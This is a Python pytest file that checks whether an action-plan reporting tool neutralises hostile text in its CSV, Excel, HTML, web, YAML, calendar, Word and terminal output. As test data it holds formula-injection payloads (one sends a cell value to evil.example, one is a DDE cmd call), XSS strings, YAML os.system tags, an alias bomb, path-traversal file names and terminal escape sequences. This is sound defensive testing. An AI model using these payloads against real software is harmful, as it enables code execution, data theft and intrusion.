"""Hostile text in a plan does not turn into code, markup, paths or broken files.

Plan texts come from outside: a plan file, a table pasted from an e-mail, a
calendar client. Each test puts one kind of payload everywhere a plan holds text
and checks the output that would carry it out:

- spreadsheet formulas in the CSV report, ``actionplan status --format csv`` and
  the Excel report;
- HTML and JavaScript in the HTML report and in the pages the web server serves;
- YAML tags and aliases in a plan file (nothing is constructed, no alias expands);
- path traversal and names Windows reserves as unit ids, in calendar feed names;
- control characters and lone surrogates in calendar files, Word and Excel files.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
import zipfile
from collections.abc import Iterable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote
from wsgiref.util import setup_testing_defaults

import pytest
from click.testing import CliRunner
from icalendar import Calendar

from actionplan.cli.main import cli
from actionplan.deadlines import FixedDeadline, PeriodEndDeadline
from actionplan.errors import PlanFileError, PlanSyntaxError
from actionplan.files import dump_plan, loads_document, loads_plan
from actionplan.ical import read_calendar, to_ical_bytes, write_feeds, write_vdir
from actionplan.model import (
    ActionPlan,
    Document,
    ProgressState,
    ProgressUpdate,
    Section,
    Task,
    Unit,
)
from actionplan.periods import ReportingPeriod
from actionplan.refs import DocumentKind
from actionplan.reports import render, write_report
from actionplan.status import evaluate
from actionplan.web import create_app

AS_OF = dt.date(2024, 9, 30)


def hostile_plan(payload: str, *, plan_id: str = "kh45") -> ActionPlan:
    """A plan with ``payload`` in every text a report, feed or page shows: the plan's
    title, issuer and subject, a section, unit names, task titles, the deadline's
    text, notes, deliverables and an update's note; tasks overdue, done and open, so
    every table of a report has rows."""
    units = [Unit("cb1", f"{payload} Chi bộ 1"), Unit("cb2", payload)]
    return ActionPlan(
        plan_id,
        f"{payload} Kế hoạch 45",
        document=Document(
            DocumentKind.PLAN, issuer=payload, issued_on=dt.date(2024, 8, 6), subject=payload
        ),
        units=units,
        sections=[Section("s1", payload)],
        tasks=[
            Task(
                "t1",
                payload,
                lead="cb1",
                coordinating=["cb2"],
                section="s1",
                deadline=FixedDeadline(dt.date(2024, 9, 15), text=payload),
                note=payload,
                deliverable=payload,
            ),
            Task(
                "t2",
                f"{payload} báo cáo",
                lead="cb2",
                deadline=PeriodEndDeadline(ReportingPeriod.quarter(2024, 3)),
                updates=[ProgressUpdate(dt.date(2024, 9, 20), ProgressState.DONE, note=payload)],
            ),
            Task(
                "t3",
                f"Nhiệm vụ {payload}",
                lead="cb1",
                deadline=FixedDeadline(dt.date(2024, 12, 31)),
            ),
        ],
    )


# --------------------------------------------------------------------------------------
# Spreadsheet formulas

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1;"bấm vào đây")',
    "=cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula_cells(text: str, payload: str) -> None:
    """No text cell of the CSV ``text`` starts as a formula would, and the payload is
    there, neutralised (quoted), not dropped."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row]
    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert not risky, f"cells a spreadsheet would run: {risky[:5]}"
    assert any(payload in cell for cell in cells), "the payload was dropped"


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_report_neutralises_formula_cells(payload: str) -> None:
    """The CSV report quotes every text cell that begins like a formula; numbers (a
    negative count of days) stay numbers."""
    report = evaluate(hostile_plan(payload), as_of=AS_OF)
    text = render(report, "csv")
    assert isinstance(text, str)
    assert_no_formula_cells(text, payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_status_command_csv_neutralises_formula_cells(tmp_path: Path, payload: str) -> None:
    """``actionplan status --format csv`` on a plan file quotes every text cell that
    begins like a formula."""
    plan_file = tmp_path / "kh45.yaml"
    dump_plan(hostile_plan(payload), plan_file)
    result = CliRunner().invoke(
        cli, ["status", str(plan_file), "--as-of", AS_OF.isoformat(), "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    assert_no_formula_cells(result.output, payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_excel_report_stores_formula_like_text_as_text(payload: str) -> None:
    """The Excel report holds no formula: every cell with a plan text is a text cell
    holding the text as written."""
    import openpyxl

    data = render(evaluate(hostile_plan(payload), as_of=AS_OF), "xlsx")
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name)
            assert b"<f>" not in xml, name
            assert b"<f " not in xml, name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(
        cell.data_type != "f"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )
    assert payload.replace("\r", "") in {t.replace("\r", "") for t in texts}


# --------------------------------------------------------------------------------------
# HTML and JavaScript

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title></textarea><iframe src=javascript:alert(1)>",
    "<!--",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
]
_DANGEROUS_TAGS = {"script", "img", "iframe", "object", "embed", "form", "input", "base", "meta"}


class _Collector(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(page: str, payloads: Iterable[str] = ()) -> None:
    """``page`` runs nothing from a plan: no script or embedding tag, no event-handler
    attribute, no ``javascript:`` link; and each payload shows as text (escaped, not
    dropped, and not evaluated as a template)."""
    parser = _Collector()
    parser.feed(page)
    parser.close()
    allowed_meta = {"charset", "name", "content", "http-equiv"}
    for tag, attrs in parser.tags:
        if tag == "meta":
            assert {name for name, _ in attrs} <= allowed_meta
            assert not any(name == "http-equiv" and value == "refresh" for name, value in attrs)
        else:
            assert tag not in _DANGEROUS_TAGS, f"<{tag}> in the page"
        for name, value in attrs:
            assert not name.startswith("on"), f"<{tag} {name}=…>"
            if value is not None and name in ("href", "src", "xlink:href", "action"):
                assert not value.strip().lower().startswith("javascript:"), (tag, name, value)
    text = "".join(parser.text)
    for payload in payloads:
        assert payload in text, f"{payload!r} is not shown as text"


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_report_escapes_plan_texts(payload: str) -> None:
    """The HTML report (and its SVG chart) shows a plan's markup as text."""
    page = render(evaluate(hostile_plan(payload), as_of=AS_OF), "html")
    assert isinstance(page, str)
    assert_inert_html(page, [payload])


def _get(app: Any, path: str, query: str = "") -> tuple[str, dict[str, str], str]:
    environ: dict[str, Any] = {"PATH_INFO": path, "QUERY_STRING": query}
    setup_testing_defaults(environ)
    answer: dict[str, Any] = {}

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
        answer["status"] = status
        answer["headers"] = dict(headers)

    body = b"".join(app(environ, start_response))
    return answer["status"], answer["headers"], body.decode("utf-8")


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_served_pages_escape_plan_texts_and_request_parts(tmp_path: Path, payload: str) -> None:
    """The web server's index, status page and error pages show plan texts, and the
    parts of a request (path, query), as text, with a policy that allows no script."""
    dump_plan(hostile_plan(payload), tmp_path / "kh45.yaml")
    app = create_app(tmp_path, as_of=AS_OF)
    pages = [
        _get(app, "/"),
        _get(app, "/plans/kh45/status.html"),
        _get(app, "/plans/kh45/status.html", "lang=en"),
        _get(app, f"/plans/{quote(payload, safe='')}/status.html"),
        _get(app, f"/plans/kh45/units/{quote(payload, safe='')}/tasks.ics"),
        _get(app, "/plans/kh45/status.html", f"as_of={quote(payload)}"),
        _get(app, "/plans/kh45/status.html", f"lang={quote(payload)}"),
    ]
    assert pages[1][0].startswith("200")
    assert pages[3][0].startswith("404")
    assert pages[5][0].startswith("400")
    for status, headers, body in pages:
        assert headers["X-Content-Type-Options"] == "nosniff", status
        assert "script-src" not in headers.get("Content-Security-Policy", "x"), status
        assert "default-src 'none'" in headers["Content-Security-Policy"], status
        if headers["Content-Type"].startswith("text/html"):
            assert_inert_html(body)
    assert_inert_html(pages[0][2], [f"{payload} Kế hoạch 45"])
    assert_inert_html(pages[1][2], [payload])


# --------------------------------------------------------------------------------------
# YAML tags and aliases

PLAN_HEAD = "plan:\n  id: kh45\n  title: {title}\n"


@pytest.mark.parametrize(
    "title",
    [
        "!!python/object/apply:os.system ['touch {marker}']",
        "!!python/object/new:os.system ['touch {marker}']",
        "!!python/object/apply:builtins.open ['{marker}', 'w']",
        "!!python/name:os.system",
        "!!python/object:actionplan.model.Unit {{id: x, name: y}}",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {marker}']",
        "!!binary dG91Y2g=",
        "!!set {{a, b}}",
        "!foo bar",
    ],
)
def test_yaml_tags_are_refused_without_constructing_anything(tmp_path: Path, title: str) -> None:
    """A tag other than the core ones is refused by both YAML readers (the fast one,
    and the round-trip one that edits files), before anything is constructed: the
    command it would run never runs."""
    marker = tmp_path / "constructed"
    text = PLAN_HEAD.format(title=title.format(marker=marker))
    for read in (loads_plan, loads_document):
        with pytest.raises(PlanSyntaxError, match="tag"):
            read(text)
    assert not marker.exists()


def test_yaml_tag_shorthand_directive_is_refused(tmp_path: Path) -> None:
    """A %TAG directive that maps a handle to Python's tags is refused as well."""
    marker = tmp_path / "constructed"
    text = "%TAG !p! tag:yaml.org,2002:python/\n---\n" + PLAN_HEAD.format(
        title=f"!p!object/apply:os.system ['touch {marker}']"
    )
    for read in (loads_plan, loads_document):
        with pytest.raises(PlanSyntaxError):
            read(text)
    assert not marker.exists()


def _alias_bomb(levels: int = 12) -> str:
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels):
        refs = ", ".join([f"*l{level - 1}"] * 9)
        lines.append(f"l{level}: &l{level} [{refs}]")
    return "\n".join(lines) + f"\nplan: {{id: kh45, title: *l{levels - 1}}}\n"


def test_yaml_alias_bomb_is_refused_at_once() -> None:
    """A "billion laughs" bomb (9**12 strings) is refused for its first alias, in
    well under a second, by both readers: no alias is ever expanded."""
    bomb = _alias_bomb()
    for read in (loads_plan, loads_document):
        started = time.perf_counter()
        with pytest.raises(PlanSyntaxError, match="alias"):
            read(bomb)
        assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize(
    "text",
    [
        "base: &b {id: kh45, title: KH}\nplan: *b\n",
        "base: &b {id: kh45}\nplan:\n  <<: *b\n  title: KH\n",
        "plan: &p {id: kh45, title: KH, self: *p}\n",
    ],
    ids=["alias", "merge-key", "recursive"],
)
def test_yaml_aliases_and_merge_keys_are_refused(text: str) -> None:
    """Aliases, merge keys and a recursive alias are refused with a located
    PlanSyntaxError."""
    for read in (loads_plan, loads_document):
        with pytest.raises(PlanFileError) as caught:
            read(text)
        assert caught.value.problems[0].line is not None


# --------------------------------------------------------------------------------------
# Unit ids as file names

HOSTILE_IDS = [
    "../evil",
    "../../../../tmp/evil",
    "..\\evil",
    "/etc/passwd",
    "C:\\Windows\\evil",
    "\\\\server\\share",
    "..",
    ".",
    ".hidden",
    "CON",
    "con",
    "NUL",
    "AUX",
    "PRN",
    "COM1",
    "LPT1",
    "COM¹",
    "CONIN$",
    "con.txt",
    "NUL.tar.gz",
    "CON.",
    "nul..",
    "dot.",
    "a:b",
    "stream::$DATA",
    "a|b",
    "a?b",
    "a*b",
    'a"b',
    "a<b>",
    "x" * 300,
    "\x01ctl\x02",
    "CB1",
    "cb1",
    "Chi bộ 1",
]
_WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", "CONIN$", "CONOUT$"} | {
    f"{name}{n}" for name in ("COM", "LPT") for n in [*"123456789", "¹", "²", "³"]
}


def assert_portable_names(folder: Path, paths: Iterable[Path]) -> None:
    """Every path is a file directly in ``folder`` whose name Windows, macOS and Linux
    all accept, and no two names differ only in case (one file on Windows and
    macOS)."""
    names = []
    for path in paths:
        assert path.parent.resolve() == folder.resolve(), path
        assert path.is_file(), path
        name = path.name
        names.append(name)
        assert not re.search(r'[<>:"/\\|?*\x00-\x1f]', name), name
        assert not name.endswith((".", " ")), name
        assert name.split(".")[0].rstrip(" ").upper() not in _WINDOWS_RESERVED, name
        assert len(name.encode("utf-8")) <= 255, name
        assert not name.startswith("."), name
    assert len({n.casefold() for n in names}) == len(names), sorted(names)


def test_feed_names_stay_in_the_folder_and_are_valid_everywhere(tmp_path: Path) -> None:
    """Unit ids that are paths, Windows device names, names with a trailing dot, or
    that differ only in case become feed files inside the folder, each with a name
    every system accepts, one per unit."""
    units = [Unit(uid, f"Đơn vị {n}") for n, uid in enumerate(HOSTILE_IDS)]
    plan = ActionPlan(
        "kh45",
        "Kế hoạch 45",
        units=units,
        tasks=[
            Task(f"t{n}", "Báo cáo", lead=u.id, deadline=FixedDeadline(dt.date(2024, 12, 15)))
            for n, u in enumerate(units)
        ],
    )
    folder = tmp_path / "feeds"
    written = write_feeds(plan, folder, as_of=AS_OF)
    assert set(written) == {None, *HOSTILE_IDS}
    assert_portable_names(folder, written.values())
    assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in written.values())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feeds"]


@pytest.mark.parametrize("plan_id", ["../evil", "CON", "nul.", "a:b", "..\\..\\evil"])
def test_plan_ids_as_feed_and_folder_names_stay_in_the_folder(tmp_path: Path, plan_id: str) -> None:
    """A hostile plan id names feeds and one-object-per-file folders safely too."""
    plan = hostile_plan("x", plan_id=plan_id)
    folder = tmp_path / "out"
    written = write_feeds(plan, folder, as_of=AS_OF)
    assert_portable_names(folder, written.values())
    vdir = tmp_path / "vdir"
    write_vdir(plan, vdir, as_of=AS_OF)
    assert_portable_names(vdir, [p for p in vdir.iterdir() if p.suffix == ".ics"])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "vdir"]


# --------------------------------------------------------------------------------------
# Control characters and lone surrogates

CONTROL = "".join(chr(c) for c in range(0x20)) + "\x7f"
BROKEN = f"Báo{CONTROL}cáo \ud800 \udfff x\u2028y\x85z \ufffe\uffff"


def _printable(text: str, *, xml: bool = False, breaks: bool = True) -> str:
    """``text`` as a calendar, Word or Excel file shows it: control characters other
    than the tab and line breaks dropped, lone surrogates (and, in XML, U+FFFE and
    U+FFFF) replaced by U+FFFD; with ``breaks``, CR and CRLF read as LF (a calendar
    writes ``\\n``, Word a line break)."""
    text = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", text)
    if breaks:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\ud800-\udfff\ufffe\uffff]" if xml else "[\ud800-\udfff]", "\ufffd", text)


def assert_clean_ics(data: bytes) -> Calendar:
    """``data`` is UTF-8, every line ends with CRLF, holds no control character but
    the tab, and icalendar reads it."""
    text = data.decode("utf-8")
    assert "\n" not in text.replace("\r\n", ""), "a line break other than CRLF"
    stray = set(re.findall("[\x00-\x08\x0a-\x1f\x7f]", text.replace("\r\n", "")))
    assert not stray, f"control characters: {stray}"
    return Calendar.from_ical(data)


@pytest.mark.parametrize("mode", ["todo", "event"])
def test_calendar_export_drops_control_characters(mode: str) -> None:
    """Control characters and lone surrogates in every text of a plan leave no raw
    control character in the .ics file; icalendar and the reader read it back, with
    the texts as written, less what a calendar cannot hold."""
    plan = hostile_plan(BROKEN)
    data = to_ical_bytes(plan, mode=mode, as_of=AS_OF)  # type: ignore[arg-type]
    calendar = assert_clean_ics(data)
    summaries = {str(c["SUMMARY"]) for c in calendar.walk() if "SUMMARY" in c}
    assert _printable(BROKEN) in {s.removeprefix("✓ ") for s in summaries}
    assert read_calendar(data, plan) == ()


def test_calendar_files_on_disk_drop_control_characters(tmp_path: Path) -> None:
    """Feeds and one-object-per-file folders are as clean as the export."""
    plan = hostile_plan(BROKEN)
    for path in write_feeds(plan, tmp_path / "feeds", as_of=AS_OF).values():
        assert_clean_ics(path.read_bytes())
    write_vdir(plan, tmp_path / "vdir", as_of=AS_OF)
    files = list((tmp_path / "vdir").glob("*.ics"))
    assert files
    for path in files:
        assert_clean_ics(path.read_bytes())


def test_word_report_drops_characters_xml_cannot_hold() -> None:
    """The Word report of a plan whose texts hold control characters, lone surrogates
    and noncharacters is made (python-docx refuses such text), and shows the texts
    cleaned."""
    import docx

    data = render(evaluate(hostile_plan(BROKEN), as_of=AS_OF), "docx")
    assert isinstance(data, bytes)
    document = docx.Document(io.BytesIO(data))
    texts = [p.text for p in document.paragraphs] + [
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    ]
    assert any(_printable(BROKEN, xml=True) in text for text in texts)
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text) for text in texts)


def test_excel_report_drops_characters_xml_cannot_hold() -> None:
    """The Excel report of such a plan is made (openpyxl refuses such text) and holds
    the texts cleaned."""
    import openpyxl

    data = render(evaluate(hostile_plan(BROKEN), as_of=AS_OF), "xlsx")
    assert isinstance(data, bytes)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert _printable(BROKEN, xml=True, breaks=False) in texts
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text) for text in texts)


@pytest.mark.parametrize("suffix", [".md", ".html", ".json", ".csv", ".txt", ".xlsx", ".docx"])
def test_every_report_format_writes_a_plan_with_lone_surrogates(
    tmp_path: Path, suffix: str
) -> None:
    """A lone surrogate (which a JSON plan file can hold: ``"\\ud800"``) does not stop
    a report from being written: it becomes U+FFFD."""
    path = write_report(evaluate(hostile_plan(BROKEN), as_of=AS_OF), tmp_path / f"r{suffix}")
    data = path.read_bytes()
    if suffix not in (".xlsx", ".docx"):
        assert "\ufffd" in data.decode("utf-8-sig")


# --------------------------------------------------------------------------------------
# Terminal control sequences

TERMINAL_PAYLOAD = (
    "\x1b[2J\x1b[H"  # clear the screen
    "\x1b]0;pwned\x07"  # set the window title
    "\x1b]8;;http://evil.example\x1b\\bấm vào đây\x1b]8;;\x1b\\"  # a disguised link
    "\roverwritten\x9b31m\x08"
)


@pytest.mark.parametrize("colour", [False, True])
def test_terminal_report_prints_no_control_sequence_from_a_plan(colour: bool) -> None:
    """The terminal report prints a plan's texts without their escape sequences (the
    only ones left are its own colours, ESC [ … m) or carriage returns, and keeps
    the words."""
    out = render(evaluate(hostile_plan(TERMINAL_PAYLOAD), as_of=AS_OF), "terminal", colour=colour)
    assert isinstance(out, str)
    assert not re.search(r"\x1b(?!\[[0-9;]*m)", out)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.replace("\x1b", ""))
    assert "bấm vào đây" in out
